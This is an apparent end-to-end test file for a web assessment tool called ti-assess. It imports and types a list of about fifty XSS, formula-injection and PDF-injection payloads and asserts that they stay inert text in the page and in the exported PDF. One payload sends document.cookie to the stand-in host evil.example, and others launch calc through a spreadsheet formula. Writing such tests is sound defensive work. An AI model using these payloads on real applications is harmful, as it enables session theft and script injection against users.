// End-to-end test of hostile text (quality.md S-02): script-like payloads typed into answers and
// notes, and imported from files, stay inert text. No dialog opens, no element with an event
// attribute or inline script appears, each payload shows literally, and the PDF prints it as is.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

const BASE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '\'><svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<a href="javascript:alert(1)">click</a>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "x";</style>',
  '<link rel=stylesheet href=x>',
  '<meta http-equiv="refresh" content="0;url=x">',
  '<base href="x">',
  '<object data="x"></object>',
  '<embed src="x">',
  '<form action="x"><button>go</button></form>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '${alert(1)}',
  '`-alert(1)-`',
  '";alert(1);//',
  '\';alert(1);//',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<svg><script>alert(1)</script></svg>',
  '<img src="x" onerror="fetch(\'http://evil.example/\'+document.cookie)">',
  '<x onclick=alert(1)>click me</x>',
  '<div style="background:url(javascript:alert(1))">',
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example","x")',
  '+1+1',
  '@SUM(1+1)',
  ') Tj ET BT /F1 99 Tf (injected',
  '%PDF-1.7 %%EOF',
  '\\) Tj (',
  'Line one\nLine two\r\nLine three',
  'Tab\there',
  '\u202Egnp.exe',
  'Łukasz Jürgen Cécile',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
];

/** Registers the XSS test with the runner of run.mjs. */
export function xssTests(test, { fresh, goSection, assert, ARTIFACTS }) {
  test(`XSS corpus: ${BASE.length} payloads typed and imported stay inert text, also in the PDF`, async (server) => {
    await fresh(server, async (page) => {
      const dialogs = [];
      page.on('dialog', async (d) => { dialogs.push(d.message()); await d.dismiss(); });
      await page.evaluate(() => {
        window.__injected = [];
        new MutationObserver((records) => {
          for (const r of records) {
            for (const n of r.addedNodes) {
              if (n.nodeType !== 1) continue;
              for (const el of [n, ...n.querySelectorAll('*')]) {
                if (el.tagName === 'SCRIPT' || [...el.attributes].some((a) => a.name.startsWith('on'))) window.__injected.push(el.outerHTML.slice(0, 80));
              }
            }
          }
        }).observe(document, { childList: true, subtree: true });
      });

      // Imported: one file per payload, named by it, with the payload as an answer and a note.
      const importer = page.getByLabel(/file exported by ti-assess/);
      // Confirms the preview, then waits until `n` assessments are stored.
      const importAll = async (n) => {
        await page.getByRole('button', { name: 'Import', exact: true }).click();
        await page.waitForFunction((k) => Object.keys(localStorage).filter((key) => key.startsWith('ti-assess/v1/assessment/')).length === k
          || document.querySelector('[role=alert]:not(:empty)'), n);
        const refused = await page.evaluate(() => document.querySelector('[role=alert]:not(:empty)')?.textContent);
        assert(!refused, `an import was refused: ${refused}`);
      };
      for (const [i, p] of BASE.entries()) {
        const doc = {
          format: 'ti-assess.assessment', schema: 1, id: `a-xss${i}`, name: p,
          question_set: { id: 'wlcg-ti-vo', version: '1.0.0' }, revision: 1,
          answers: { 'VO-IR-1.location': { text: p, given_at: '2026-11-26T10:00:00.000Z' } },
          evidence: { 'VO-IR-1.procedure': { text: p } },
        };
        await importer.setInputFiles({ name: `xss-${i}.json`, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(doc)) });
        await importAll(i + 1);
      }
      // And one with every payload in one answer, for the PDF.
      const printable = BASE.filter((p) => /^[\x20-\x7e]*$/.test(p) || p.startsWith('Łukasz'));
      const all = {
        format: 'ti-assess.assessment', schema: 1, id: 'a-xss-all', name: 'All payloads',
        question_set: { id: 'wlcg-ti-vo', version: '1.0.0' }, revision: 1,
        answers: { 'VO-IR-1.location': { text: printable.join(' ~ '), given_at: '2026-11-26T10:00:00.000Z' } },
        evidence: { 'VO-IR-1.procedure': { text: printable.join(' ~ ') } },
      };
      await importer.setInputFiles({ name: 'xss-all.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(all)) });
      await importAll(BASE.length + 1);
      const listed = await page.getByRole('main').textContent();
      const missing = BASE.filter((p) => !p.includes('\n') && !p.includes('\t') && !listed.includes(p));
      assert(missing.length === 0, `names not shown literally: ${missing.join(' ¦ ')}`);

      // Typed: every payload into an answer and into a note of a fresh assessment.
      await page.getByLabel('Name', { exact: true }).fill(BASE[1]);
      await page.getByRole('button', { name: 'Create assessment' }).click();
      await page.getByRole('heading', { level: 1, name: BASE[1] }).waitFor();
      await goSection(page, 'Incident response');
      const location = page.locator('[id="q-VO-IR-1.location"]');
      const note = page.locator('[id="q-VO-IR-1.procedure-evidence"]');
      if (!(await note.isVisible())) await page.getByText('Evidence and link').first().click();
      for (const p of BASE) {
        await location.fill(p);
        await note.fill(p);
        // A one-line field drops line breaks (HTML value sanitisation); a text area keeps LF only.
        const multiline = await location.evaluate((e) => e.tagName === 'TEXTAREA');
        const expected = multiline ? p.replace(/\r\n?/g, '\n') : p.replace(/[\r\n]/g, '');
        assert(await location.inputValue() === expected, `answer kept as typed: ${p}`);
        assert(await note.inputValue() === p.replace(/\r\n/g, '\n'), `note kept as typed: ${p}`);
      }
      await page.getByRole('link', { name: 'All assessments' }).click();
      await page.getByRole('link', { name: 'All payloads', exact: true }).click();
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export PDF' }).click(),
      ]);
      const file = join(ARTIFACTS, 'xss-report.pdf');
      await download.saveAs(file);
      const text = execFileSync('pdftotext', [file, '-']).toString().replace(/\s+/g, '');
      const unprinted = printable.filter((p) => !text.includes(p.replace(/\s+/g, '')));
      assert(unprinted.length === 0, `payloads not printed literally in the PDF: ${unprinted.join(' ¦ ')}`);
      assert(readFileSync(file).subarray(0, 5).toString() === '%PDF-', 'a PDF');

      assert(dialogs.length === 0, `dialogs opened: ${dialogs.join(' | ')}`);
      const injected = await page.evaluate(() => window.__injected);
      assert(injected.length === 0, `elements with event attributes or scripts appeared: ${injected.join(' | ')}`);
    });
  });
}
